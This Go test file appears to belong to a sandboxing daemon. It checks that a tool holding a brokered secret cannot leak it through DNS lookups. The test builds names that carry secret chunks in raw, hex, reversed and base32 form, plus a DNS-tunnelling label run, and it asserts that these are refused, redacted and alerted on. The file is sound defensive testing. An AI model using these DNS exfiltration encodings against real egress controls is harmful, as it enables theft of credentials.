package main

import (
	"crypto/rand"
	"encoding/base32"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bermsec/berm/agent/event"
	"github.com/bermsec/berm/testenv/bermbin"
	"github.com/bermsec/berm/testenv/dnstest"
)

// labels cuts s into labels of n characters.
func labels(s string, n int) string {
	var out []string
	for len(s) > n {
		out, s = append(out, s[:n]), s[n:]
	}
	return strings.Join(append(out, s), ".")
}

// A call holding a brokered secret sends chunks of it out as DNS names under a wildcard its
// policy allows (*.allowed.test): raw in mixed case, hex cut into labels, reversed, base32.
// Each query is answered REFUSED by berm's resolver and never reaches the upstream; each
// encoding raises a credential alert once, and the dns events carry the names redacted. A
// name of no secret under the wildcard is answered; a run of short random labels under it
// goes upstream and raises the tunnelling alert.
func TestDaemonDNSCarriesNoSecret(t *testing.T) {
	d := startDaemon(t)
	up := dnstest.Start(t, dnstest.Zone{"www.allowed.test": {dnstest.A("www.allowed.test", "127.0.0.21", 60)}})
	const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, 24)
	rand.Read(b)
	for i := range b {
		b[i] = alnum[int(b[i])%len(alnum)]
	}
	secret := "Dns" + string(b)
	dir := t.TempDir()
	src := filepath.Join(dir, "secret")
	os.WriteFile(src, []byte(secret), 0o600)
	pol := filepath.Join(dir, "p.yaml")
	os.WriteFile(pol, []byte(fmt.Sprintf(`apiVersion: berm.dev/v1alpha1
kind: ToolPolicy
metadata: {name: dns-secret}
spec:
  credentials:
    - {name: db, source: {file: %s}, deliver: {file: /run/secrets/db}}
  isolation: {network: host-filtered}
  network:
    egress:
      - {domain: "*.allowed.test", ports: [80], allowPrivate: true} # the test's upstream answers on loopback
`, src)), 0o600)
	rev := []byte(secret)
	slices.Reverse(rev)
	leaky := map[string]string{ // encoding -> name
		"raw":      secret[3:15] + ".t.allowed.test",
		"hex":      labels(hex.EncodeToString([]byte(secret[2:12])), 6) + ".allowed.test",
		"reversed": string(rev[2:14]) + ".allowed.test",
		"base32":   strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(secret[5:20])), "=")) + ".allowed.test",
	}
	const plain, tunnel = "www.allowed.test", "x7k2.p9q4.m1v8.z3b6.n5c0.w2r7.allowed.test"
	ws := bermbin.Workspace(t)
	var list strings.Builder
	for _, enc := range []string{"raw", "hex", "reversed", "base32"} {
		fmt.Fprintf(&list, "%s %s\n", enc, leaky[enc])
	}
	fmt.Fprintf(&list, "plain %s\ntunnel %s\n", plain, tunnel)
	os.WriteFile(filepath.Join(ws, "names"), []byte(list.String()), 0o644)
	r := d.run(t, "", "--call-id", "dns-leak", "--workspace", ws, "--policy", pol, "--dns-upstream", up.Addr, "--",
		"python3", "-c", `import socket
for line in open("names"):
    kind, name = line.split()
    try:
        print(kind, socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0])
    except socket.gaierror:
        print(kind, "unresolved")
`)
	if r.Exit != 0 {
		t.Fatalf("call: %+v", r)
	}
	for _, want := range []string{"raw unresolved", "hex unresolved", "reversed unresolved", "base32 unresolved", "plain 127.0.0.21", "tunnel unresolved"} {
		if !strings.Contains(r.Stdout, want+"\n") {
			t.Errorf("the tool did not see %q:\n%s", want, r.Stdout)
		}
	}
	// Nothing carrying a chunk reached the upstream; the others did.
	for _, n := range up.Names() {
		for enc, l := range leaky {
			if first := strings.Split(l, ".")[0]; strings.Contains(n, strings.ToLower(first)) {
				t.Errorf("the upstream was asked %s (the %s chunk)", n, enc)
			}
		}
	}
	if up.Count(plain) == 0 || up.Count(tunnel) == 0 {
		t.Errorf("the upstream was not asked the allowed names: %v", up.Names())
	}
	tl := bermbin.Timeline(t, d.state, "dns-leak")
	leaks := map[string]int{}
	alerts, tunnels, redacted := 0, 0, 0
	for _, e := range tl.Events {
		if x := e.DNS; x != nil && strings.Contains(x.Name, "[berm:redacted:db]") {
			redacted++
			if x.Verdict != event.DNSRefused || x.Rcode != "REFUSED" || !strings.Contains(x.Detail, "live credential db") {
				t.Errorf("dns event %+v, want refused for the credential", x)
			}
		}
		if c := e.Credential; c != nil && c.Action == event.CredentialLeaked && c.Where == "dns name" {
			leaks[c.Encoding]++
		}
		if a := e.Alert; a != nil {
			switch a.RuleID {
			case "credential-dns-exfiltration":
				alerts++
			case "dns-tunnel-label-run":
				tunnels++
				if !strings.Contains(a.Output, tunnel) {
					t.Errorf("tunnel alert %s", a.Output)
				}
			}
		}
	}
	if redacted < 4 || leaks["raw"] != 1 || leaks["hex"] != 1 || leaks["reversed"] != 1 || leaks["base32"] != 1 || alerts != 4 || tunnels != 1 {
		t.Errorf("%d redacted dns events (want 4 or more), leaks by encoding %v (want one each of raw, hex, reversed, base32), %d credential alerts (want 4), %d tunnel alerts (want 1)",
			redacted, leaks, alerts, tunnels)
	}
	// The chunks are nowhere berm writes.
	for enc, l := range leaky {
		first := strings.Split(l, ".")[0]
		filepath.Walk(d.state, func(p string, fi os.FileInfo, err error) error {
			if err == nil && fi.Mode().IsRegular() {
				if data, _ := os.ReadFile(p); strings.Contains(strings.ToLower(string(data)), strings.ToLower(first)) {
					t.Errorf("%s holds the %s chunk", p, enc)
				}
			}
			return nil
		})
	}
	assertNowhere(t, d, secret)
}
